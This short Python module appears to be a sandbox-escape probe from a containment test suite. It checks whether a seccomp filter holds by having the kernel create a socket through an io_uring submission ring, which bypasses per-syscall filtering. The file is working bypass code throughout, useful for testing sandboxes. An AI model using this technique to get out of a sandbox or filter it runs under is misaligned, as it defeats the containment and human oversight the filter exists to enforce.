"""Has the kernel make the socket, asked through a ring of requests that seccomp does not see one by one.

guard: seccomp
"""

import ctypes
import mmap
import os
import socket
import struct

OP_SOCKET = 45  # since Linux 5.19


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    parameters = (ctypes.c_uint32 * 30)()
    ring = libc.syscall(425, 4, parameters)  # io_uring_setup; these numbers hold on every architecture
    if ring < 0:
        return "held"
    sq, cq = parameters[10:19], parameters[20:29]  # offsets: head, tail, mask, entries, flags, ...
    rings = mmap.mmap(ring, 4096)
    entries = mmap.mmap(ring, 4 * 64, offset=0x10000000)
    entries[:28] = struct.pack("<BBHiQQI", OP_SOCKET, 0, 0, socket.AF_INET, socket.SOCK_STREAM, 0, 0)
    struct.pack_into("<I", rings, sq[6], 0)
    struct.pack_into("<I", rings, sq[1], 1)
    libc.syscall(426, ring, 1, 1, 1, None, 0)  # io_uring_enter: submit one, wait for it
    fd = struct.unpack_from("<i", rings, cq[5] + 8)[0]
    return f"escaped: {os.fstat(fd)}" if fd >= 0 else f"the kernel refuses: {os.strerror(-fd)}"
